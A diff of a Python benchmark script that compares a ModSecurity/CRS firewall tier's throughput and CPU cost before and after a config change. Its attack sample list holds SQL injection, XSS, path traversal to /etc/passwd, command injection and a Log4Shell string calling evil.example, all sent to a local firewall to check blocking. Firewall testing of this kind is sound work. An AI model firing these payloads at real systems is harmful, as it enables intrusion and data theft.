@@ -1,15 +1,23 @@
-"""The firewall tier's engines, compared: which one to run, and what the WAF costs.
+"""The firewall tier: what it costs, which engine to run, and what issue 18 changed.
 
 In front of one fixed-response upstream (nginx serving seat-map-shaped bytes), each over
-TLS with 2 workers, wrk GETs /api/v1/flights/N/seats with 64 connections:
+TLS with 2 workers, wrk GETs with 64 connections:
 
   (1) the upstream alone                        the ceiling
   (2) nginx TLS proxy, no WAF                   what TLS and proxying cost
-  (3) nginx + ModSecurity v3 + CRS 3.3.4        lastseat's firewall tier, as generated
+  (3) lastseat's firewall tier, as generated    the seat map (its positive model and
+                                                microcache) and an inspected API GET
+  (3') the same tier as generated before issue 18 (bench/firewall_cpu.py: BEFORE)
   (4) Apache httpd (event MPM) + ModSecurity v2 + the same CRS and exclusions
 
-Then a sample of the attack set is sent to (3) and (4): both must block every one.
-Writes var/bench/firewall.json and prints a table.
+Then the CPU of (3)'s workers per inspected request against (3')'s, in the same run, for a
+GET with a query, a JSON POST and a sign-in (and, without --quick, the instructions per
+request under callgrind: a count the machine's other load does not change). A sample of
+attacks is sent to (3), (3') and (4): each must block every one.
+
+    python bench/firewall.py [--quick]
+
+Writes var/bench/firewall.json (with the `measures` of bench/report.py) and prints a table.
 """
 
 from __future__ import annotations
@@ -19,11 +27,14 @@ import asyncio
 import json
 import os
 import shutil
+import statistics
 import subprocess
 import sys
 import tempfile
 import time
+from collections.abc import Callable
 from pathlib import Path
+from typing import Any
 
 import httpx
 from rich.console import Console
@@ -35,114 +46,30 @@ from lastseat.stack.ports import free_port, free_udp_and_tcp_port
 from lastseat.stack.tls import ensure_certificates
 
 sys.path.insert(0, str(Path(__file__).resolve().parent))
+import firewall_cpu
+from firewall_cpu import SHAPES
+from firewall_tiers import APACHE_MODULES, apache_conf, plain_proxy_conf, upstream_conf, wait_port
 from run import Process, parse_wrk
 
 HERE = Path(__file__).resolve().parent
 ROOT = HERE.parent
 console = Console(width=140)
-APACHE_MODULES = Path("/usr/lib/apache2/modules")
+SEAT_MAP = "/api/v1/flights/7/seats"
+INSPECTED = "/api/v1/flights?origin=LHR&destination=JFK&date=2031-03-01"
+# (the last four on the seat map's path, off its model: inspected as any request)
 ATTACK_SAMPLE = [
     "/api/v1/flights?origin=' OR 1=1--",
     "/api/v1/flights?q=<script>alert(1)</script>",
     "/api/v1/flights?file=../../../../etc/passwd",
     "/api/v1/flights?cmd=;cat /etc/passwd",
     "/api/v1/flights?q=${jndi:ldap://evil.example/a}",
+    SEAT_MAP + "?q=' UNION SELECT password FROM users--",
+    SEAT_MAP + "?q=<script>alert(1)</script>",
+    SEAT_MAP + "?file=../../../../etc/passwd",
+    "/api/v1/flights/7/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
 ]
-
-
-def upstream_conf(folder: Path, port: int, body: bytes) -> Path:
-    (folder / "html").mkdir(parents=True)
-    (folder / "html" / "map.json").write_bytes(body)
-    conf = folder / "nginx.conf"
-    conf.write_text(
-        f"""worker_processes 1;
-pid {folder}/nginx.pid;
-daemon off;
-events {{ worker_connections 4096; }}
-http {{
-  access_log off;
-  keepalive_requests 100000;
-  server {{
-    listen 127.0.0.1:{port};
-    default_type application/json;
-    location / {{ root {folder}/html; rewrite ^ /map.json break; }}
-  }}
-}}
-"""
-    )
-    return conf
-
-
-def plain_proxy_conf(folder: Path, port: int, upstream: int, cert: Path, key: Path) -> Path:
-    folder.mkdir(parents=True)
-    conf = folder / "nginx.conf"
-    conf.write_text(
-        f"""worker_processes 2;
-pid {folder}/nginx.pid;
-daemon off;
-events {{ worker_connections 4096; }}
-http {{
-  access_log off;
-  upstream up {{ server 127.0.0.1:{upstream}; keepalive 64; }}
-  server {{
-    listen 127.0.0.1:{port} ssl;
-    ssl_certificate {cert};
-    ssl_certificate_key {key};
-    location / {{
-      proxy_pass http://up;
-      proxy_http_version 1.1;
-      proxy_set_header Connection "";
-    }}
-  }}
-}}
-"""
-    )
-    return conf
-
-
-def apache_conf(folder: Path, port: int, upstream: int, modsecurity: Path, cert: Path,
-                key: Path) -> Path:  # fmt: skip
-    conf = folder / "apache.conf"
-    user = "User nobody\nGroup nogroup" if os.geteuid() == 0 else ""
-    modules = [
-        ("mpm_event_module", "mod_mpm_event.so"),
-        ("authz_core_module", "mod_authz_core.so"),
-        ("unique_id_module", "mod_unique_id.so"),
-        ("security2_module", "mod_security2.so"),
-        ("proxy_module", "mod_proxy.so"),
-        ("proxy_http_module", "mod_proxy_http.so"),
-        ("socache_shmcb_module", "mod_socache_shmcb.so"),
-        ("ssl_module", "mod_ssl.so"),
-    ]
-    loads = "\n".join(f"LoadModule {name} {APACHE_MODULES / so}" for name, so in modules)
-    conf.write_text(
-        f"""ServerRoot {folder}
-{loads}
-{user}
-PidFile {folder}/apache.pid
-ErrorLog {folder}/error.log
-LogLevel warn
-ServerName lastseat.test
-Listen 127.0.0.1:{port}
-StartServers 2
-ServerLimit 2
-ThreadsPerChild 64
-MaxRequestWorkers 128
-MinSpareThreads 64
-MaxSpareThreads 128
-KeepAlive On
-MaxKeepAliveRequests 0
-SSLSessionCache shmcb:{folder}/ssl_cache(512000)
-Include {modsecurity}
-<VirtualHost 127.0.0.1:{port}>
-  SSLEngine on
-  SSLCertificateFile {cert}
-  SSLCertificateKeyFile {key}
-  ProxyPass / http://127.0.0.1:{upstream}/ keepalive=On
-</VirtualHost>
-"""
-    )
-    return conf
+SEAT_MAP_TARGET = 0.35  # of the TLS proxy: the whole stack's target for the seat map (issue 18)
+CPU_TARGET = 0.70  # of the config before issue 18: 30% less
 
 
 def wrk(url: str, seconds: int, connections: int) -> dict[str, float]:
@@ -154,122 +81,347 @@ def wrk(url: str, seconds: int, connections: int) -> dict[str, float]:
     return parse_wrk(out)
 
 
-def wait_port(url: str) -> None:
-    for _ in range(150):
-        try:
-            httpx.get(url, verify=False, timeout=1)  # noqa: S501 - loopback, our own CA
-            return
-        except httpx.HTTPError:
-            time.sleep(0.1)
-    raise RuntimeError(f"{url} did not answer")
-
-
 async def blocked(url: str) -> list[int]:
     async with httpx.AsyncClient(verify=False, headers={"Host": "lastseat.test"}) as client:  # noqa: S501
         return [(await client.get(url + path)).status_code for path in ATTACK_SAMPLE]
 
 
+def firewall_settings(folder: Path, https: int, upstream: int) -> Settings:
+    return Settings(
+        _env_file=None,
+        stack_dir=folder,
+        https_port=https,
+        http_port=free_port(),
+        proxy_port=upstream,
+        proxy_grpc_port=free_port(),
+        doh_port=free_port(),
+        nginx_workers=2,
+        rate_limit_per_second=1_000_000,
+        rate_limit_burst=1_000_000,
+        connections_per_address=60_000,
+    )
+
+
+def measure(
+    name: str,
+    value: float,
+    unit: str,
+    ceiling_name: str | None,
+    ceiling: float | None,
+    target: str,
+    met: bool | None,
+) -> dict[str, Any]:
+    ratio = None if ceiling is None else value / ceiling
+    return {
+        "name": name,
+        "value": round(value, 3),
+        "unit": unit,
+        "ceiling_name": ceiling_name,
+        "ceiling": None if ceiling is None else round(ceiling, 3),
+        "ratio": None if ratio is None else round(ratio, 3),
+        "target": target,
+        "met": met,
+    }
+
+
+class Bench:
+    """The processes of one run, stopped in reverse order by `close`."""
+
+    def __init__(self, work: Path) -> None:
+        self.work = work
+        self.processes: list[Process] = []
+
+    def nginx(self, conf: Path, name: str) -> Process:
+        process = Process(nginx.nginx_command(conf), dict(os.environ), self.work / f"{name}.log")
+        self.processes.append(process)
+        return process
+
+    def firewall(
+        self, name: str, upstream: int, certs: Any, before: bool
+    ) -> tuple[int, Path, Process]:
+        port = free_port()
+        settings = firewall_settings(self.work / name, port, upstream)
+        write = firewall_cpu.write_before if before else nginx.write_firewall
+        # (its log lines go to a port no log tier listens on: sent, not written)
+        conf = write(settings, certs, free_udp_and_tcp_port())
+        process = self.nginx(conf, name)
+        wait_port(f"https://127.0.0.1:{port}/")
+        return port, conf, process
+
+    def close(self) -> None:
+        for process in reversed(self.processes):
+            process.stop()
+
+
+def cpu_rounds(
+    bench: Bench,
+    firewalls: dict[str, tuple[int, Callable[[], list[int]]]],
+    rounds: int,
+    seconds: int,
+) -> dict[str, dict[str, Any]]:
+    """Per shape and config: the median of `rounds` interleaved runs (before, after, before,
+    ...), so all meet the same moments of the machine's other load; every run kept.
+    `firewalls`: per config, its port and a function giving the pids of its workers."""
+    runs: dict[str, dict[str, list[float]]] = {}
+    for shape in SHAPES:
+        script = firewall_cpu.wrk_script(bench.work, shape)
+        runs[shape.name] = {config: [] for config in firewalls}
+        for _ in range(rounds):
+            for config, (port, pids_of) in firewalls.items():
+                pids = pids_of()
+                micros, _count = firewall_cpu.cpu_per_request(
+                    f"https://127.0.0.1:{port}", script, pids, seconds
+                )
+                runs[shape.name][config].append(round(micros, 1))
+    return {
+        shape: {
+            config: {"median_us": statistics.median(values), "runs_us": values}
+            for config, values in configs.items()
+        }
+        for shape, configs in runs.items()
+    }
+
+
+def apache_children(parent: int) -> list[int]:
+    """Apache's child processes (each with its threads: /proc/PID/stat counts them all)."""
+    out = subprocess.run(["pgrep", "-P", str(parent)], capture_output=True, text=True).stdout
+    return [int(pid) for pid in out.split()]
+
+
 def main() -> None:
     parser = argparse.ArgumentParser(description=__doc__)
-    parser.add_argument("--seconds", type=int, default=10)
+    parser.add_argument(
+        "--quick", action="store_true", help="shorter runs, no Apache, no callgrind"
+    )
+    parser.add_argument("--seconds", type=int, default=None)
     parser.add_argument("--connections", type=int, default=64)
     args = parser.parse_args()
-    if shutil.which("apache2") is None or not (APACHE_MODULES / "mod_security2.so").exists():
-        sys.exit("Apache httpd with mod_security2 is missing: apt-get install apache2 "
-                 "libapache2-mod-security2")  # fmt: skip
+    seconds = args.seconds or (2 if args.quick else 10)
+    rounds = 1 if args.quick else 3
+    apache = not args.quick
+    if apache and (
+        shutil.which("apache2") is None or not (APACHE_MODULES / "mod_security2.so").exists()
+    ):
+        sys.exit(
+            "Apache httpd with mod_security2 is missing: apt-get install apache2 "
+            "libapache2-mod-security2 (or run with --quick)"
+        )
+    (ROOT / "var").mkdir(exist_ok=True)
     work = Path(tempfile.mkdtemp(prefix="firewall-bench-", dir=ROOT / "var"))
     work.chmod(0o755)
-    processes: list[Process] = []
+    bench = Bench(work)
     results: dict[str, dict[str, float]] = {}
+    blocks: dict[str, list[int]] = {}
+    cpu: dict[str, dict[str, Any]] = {}
+    instructions: dict[str, dict[str, float]] = {}
+    started = time.monotonic()
     try:
-        body = json.dumps({"flight_id": 1, "seats": [
-            {"seat": f"{r}{c}", "cabin": "economy", "status": "available",
-             "price": {"amount": 12345, "currency": "EUR"}} for r in range(1, 31) for c in "ABCDEF"
-        ]}).encode()  # fmt: skip
+        body = json.dumps(
+            {
+                "flight_id": 1,
+                "seats": [
+                    {
+                        "seat": f"{r}{c}",
+                        "cabin": "economy",
+                        "status": "available",
+                        "price": {"amount": 12345, "currency": "EUR"},
+                    }
+                    for r in range(1, 31)
+                    for c in "ABCDEF"
+                ],
+            }
+        ).encode()
         upstream = free_port()
-        processes.append(
-            Process(
-                nginx.nginx_command(upstream_conf(work / "upstream", upstream, body)),
-                dict(os.environ),
-                work / "upstream.log",
-            )
-        )
+        bench.nginx(upstream_conf(work / "upstream", upstream, body), "upstream")
         wait_port(f"http://127.0.0.1:{upstream}/")
         certs = ensure_certificates(work / "tls", "lastseat.test")
-        path = "/api/v1/flights/7/seats"
 
         console.print("(1) the upstream alone")
         results["upstream"] = wrk(
-            f"http://127.0.0.1:{upstream}{path}", args.seconds, args.connections
+            f"http://127.0.0.1:{upstream}{SEAT_MAP}", seconds, args.connections
         )
 
         plain = free_port()
-        conf = plain_proxy_conf(work / "plain", plain, upstream, certs.cert, certs.key)
-        processes.append(Process(nginx.nginx_command(conf), dict(os.environ), work / "plain.log"))
+        bench.nginx(
+            plain_proxy_conf(work / "plain", plain, upstream, certs.cert, certs.key), "plain"
+        )
         wait_port(f"https://127.0.0.1:{plain}/")
         console.print("(2) nginx TLS proxy, no WAF")
         results["nginx_tls_proxy"] = wrk(
-            f"https://127.0.0.1:{plain}{path}", args.seconds, args.connections
+            f"https://127.0.0.1:{plain}{SEAT_MAP}", seconds, args.connections
         )
 
-        v3 = free_port()
-        settings = Settings(
-            _env_file=None,
-            stack_dir=work / "v3", https_port=v3, http_port=free_port(), proxy_port=upstream,
-            proxy_grpc_port=free_port(), doh_port=free_port(), nginx_workers=2,
-            rate_limit_per_second=1_000_000, rate_limit_burst=1_000_000,
-            connections_per_address=60_000,
-        )  # fmt: skip
-        # (its log lines go to a port no log tier listens on: sent, not written)
-        conf = nginx.write_firewall(settings, certs, free_udp_and_tcp_port())
-        processes.append(Process(nginx.nginx_command(conf), dict(os.environ), work / "v3.log"))
-        wait_port(f"https://127.0.0.1:{v3}/")
-        console.print("(3) nginx + ModSecurity v3 + CRS")
-        results["nginx_modsecurity_v3"] = wrk(
-            f"https://127.0.0.1:{v3}{path}", args.seconds, args.connections
-        )
-        v3_blocks = asyncio.run(blocked(f"https://127.0.0.1:{v3}"))
+        after, after_conf, after_process = bench.firewall("after", upstream, certs, before=False)
+        before, _, before_process = bench.firewall("before", upstream, certs, before=True)
+        for name, port in (("firewall", after), ("firewall_before_issue_18", before)):
+            console.print(f"(3) {name}: the seat map, and an inspected GET")
+            results[f"{name}_seat_map"] = wrk(
+                f"https://127.0.0.1:{port}{SEAT_MAP}", seconds, args.connections
+            )
+            results[f"{name}_inspected_get"] = wrk(
+                f"https://127.0.0.1:{port}{INSPECTED}", seconds, args.connections
+            )
+            blocks[name] = asyncio.run(blocked(f"https://127.0.0.1:{port}"))
 
-        v2 = free_port()
-        (work / "apache").mkdir()
-        rules = work / "v3" / "firewall" / "modsecurity.conf"  # the very same as (3)
-        apache = apache_conf(work / "apache", v2, upstream, rules, certs.cert, certs.key)
-        processes.append(
-            Process(
-                ["apache2", "-f", str(apache), "-DFOREGROUND"],
-                dict(os.environ),
-                work / "apache.log",
+        firewalls: dict[str, tuple[int, Callable[[], list[int]]]] = {
+            "before": (before, lambda: firewall_cpu.workers(before_process.proc.pid)),
+            "after": (after, lambda: firewall_cpu.workers(after_process.proc.pid)),
+        }
+        if apache:
+            v2 = free_port()
+            (work / "apache").mkdir()
+            rules = after_conf.parent / "modsecurity.conf"  # the very same as (3)
+            conf = apache_conf(work / "apache", v2, upstream, rules, certs.cert, certs.key)
+            process = Process(
+                ["apache2", "-f", str(conf), "-DFOREGROUND"], dict(os.environ), work / "apache.log"
+            )
+            bench.processes.append(process)
+            wait_port(f"https://127.0.0.1:{v2}/")
+            firewalls["apache_modsecurity_v2"] = (v2, lambda: apache_children(process.proc.pid))
+        console.print("(3) CPU per inspected request, interleaved: " + ", ".join(firewalls))
+        cpu = cpu_rounds(bench, firewalls, rounds, seconds)
+        if not args.quick:
+            console.print("(3) instructions per inspected request (callgrind), before and after")
+            before_process.stop()
+            after_process.stop()
+            for config in ("after", "before"):
+                folder = work / config / "firewall"
+                port = after if config == "after" else before
+                instructions[config] = firewall_cpu.instructions_per_request(
+                    folder / "nginx.conf", port, SHAPES, 30, work / f"callgrind-{config}.log"
+                )
+
+        if apache:
+            console.print("(4) Apache httpd + ModSecurity v2 + CRS (every request inspected)")
+            results["apache_modsecurity_v2_seat_map"] = wrk(
+                f"https://127.0.0.1:{v2}{SEAT_MAP}", seconds, args.connections
+            )
+            results["apache_modsecurity_v2_inspected_get"] = wrk(
+                f"https://127.0.0.1:{v2}{INSPECTED}", seconds, args.connections
+            )
+            blocks["apache_modsecurity_v2"] = asyncio.run(blocked(f"https://127.0.0.1:{v2}"))
+    finally:
+        bench.close()
+        shutil.rmtree(work, ignore_errors=True)
+    report(results, blocks, cpu, instructions, time.monotonic() - started, args.quick)
+
+
+def report(
+    results: dict[str, dict[str, float]],
+    blocks: dict[str, list[int]],
+    cpu: dict[str, dict[str, Any]],
+    instructions: dict[str, dict[str, float]],
+    elapsed: float,
+    quick: bool,
+) -> None:
+    table = Table(title="firewall tier (over TLS, 2 workers, wrk -c64)")
+    for column in ("tier", "req/s", "p50 ms", "p99 ms", "of the TLS proxy", "attacks blocked"):
+        table.add_column(column)
+    proxy = results["nginx_tls_proxy"]["requests_per_s"]
+    for name, stats in results.items():
+        codes = blocks.get(name.removesuffix("_seat_map").removesuffix("_inspected_get"))
+        table.add_row(
+            name,
+            f"{stats['requests_per_s']:.0f}",
+            f"{stats.get('p50_ms', 0):.1f}",
+            f"{stats.get('p99_ms', 0):.1f}",
+            f"{stats['requests_per_s'] / proxy:.3f}",
+            "" if codes is None else f"{sum(c == 403 for c in codes)}/{len(codes)}",
+        )
+    console.print(table)
+    seat_map = results["firewall_seat_map"]["requests_per_s"]
+    measures = [
+        measure(
+            "firewall tier seat-map GET, TLS",
+            seat_map,
+            "req/s",
+            "nginx TLS proxy without WAF",
+            proxy,
+            f"ratio >= {SEAT_MAP_TARGET}",
+            seat_map / proxy >= SEAT_MAP_TARGET,
+        ),
+        measure(
+            "firewall tier inspected GET (flights search), TLS",
+            results["firewall_inspected_get"]["requests_per_s"],
+            "req/s",
+            "nginx TLS proxy without WAF",
+            proxy,
+            "none (every rule runs)",
+            None,
+        ),
+    ]
+    for shape, configs in cpu.items():
+        after, before = configs["after"]["median_us"], configs["before"]["median_us"]
+        measures.append(
+            measure(
+                f"CPU per inspected request, {shape}",
+                after,
+                "us",
+                "the config before issue 18, same run",
+                before,
+                f"ratio <= {CPU_TARGET}",
+                after / before <= CPU_TARGET,
             )
         )
-        wait_port(f"https://127.0.0.1:{v2}/")
-        console.print("(4) Apache httpd + ModSecurity v2 + CRS")
-        results["apache_modsecurity_v2"] = wrk(
-            f"https://127.0.0.1:{v2}{path}", args.seconds, args.connections
+    for shape, configs in cpu.items():
+        if "apache_modsecurity_v2" in configs:
+            apache = configs["apache_modsecurity_v2"]["median_us"]
+            nginx_v3 = configs["after"]["median_us"]
+            measures.append(
+                measure(
+                    f"CPU per inspected request, {shape}, Apache httpd + ModSecurity v2",
+                    apache,
+                    "us",
+                    "nginx + ModSecurity v3, same config, same run",
+                    nginx_v3,
+                    "none (below 1: Apache costs less)",
+                    None,
+                )
+            )
+    for shape, after in instructions.get("after", {}).items():
+        before = instructions["before"][shape]
+        measures.append(
+            measure(
+                f"instructions per inspected request, {shape}",
+                after,
+                "instructions",
+                "the config before issue 18, same run",
+                before,
+                f"ratio <= {CPU_TARGET}",
+                after / before <= CPU_TARGET,
+            )
         )
-        v2_blocks = asyncio.run(blocked(f"https://127.0.0.1:{v2}"))
-    finally:
-        for process in reversed(processes):
-            process.stop()
-        shutil.rmtree(work, ignore_errors=True)
-    table = Table(title="firewall tier engines (seat-map-shaped GET over TLS, 2 workers)")
-    for column in ("tier", "req/s", "p50 ms", "p99 ms", "ratio to upstream", "attacks blocked"):
-        table.add_column(column)
-    ceiling = results["upstream"]["requests_per_s"]
-    blocks = {"nginx_modsecurity_v3": v3_blocks, "apache_modsecurity_v2": v2_blocks}
-    for name, stats in results.items():
-        codes = blocks.get(name)
-        table.add_row(
-            name, f"{stats['requests_per_s']:.0f}", f"{stats.get('p50_ms', 0):.1f}",
-            f"{stats.get('p99_ms', 0):.1f}", f"{stats['requests_per_s'] / ceiling:.3f}",
-            "" if codes is None else f"{sum(c == 403 for c in codes)}/{len(codes)}",
-        )  # fmt: skip
-    console.print(table)
+    for name, codes in blocks.items():
+        refused = sum(code == 403 for code in codes)
+        measures.append(
+            measure(
+                f"attack sample refused, {name}",
+                refused,
+                f"of {len(codes)}",
+                None,
+                None,
+                "all",
+                refused == len(codes),
+            )
+        )
+    details = {
+        "results": results,
+        "blocked": blocks,
+        "cpu_per_request": cpu,
+        "instructions_per_request": instructions,
+        "quick": quick,
+        "seconds": round(elapsed, 1),
+        "before": firewall_cpu.BEFORE,
+    }
     out = ROOT / "var" / "bench"
     out.mkdir(parents=True, exist_ok=True)
-    (out / "firewall.json").write_text(
-        json.dumps({"results": results, "blocked": blocks}, indent=2)
-    )
-    shutil.rmtree(work, ignore_errors=True)
+    (out / "firewall.json").write_text(json.dumps({**details, "measures": measures}, indent=2))
+    for item in measures:
+        console.print(
+            f"{item['name']}: {item['value']} {item['unit']}"
+            + (f" = {item['ratio']} of {item['ceiling_name']}" if item["ratio"] is not None else "")
+            + f" (target {item['target']}: {item['met']})"
+        )
 
 
 if __name__ == "__main__":
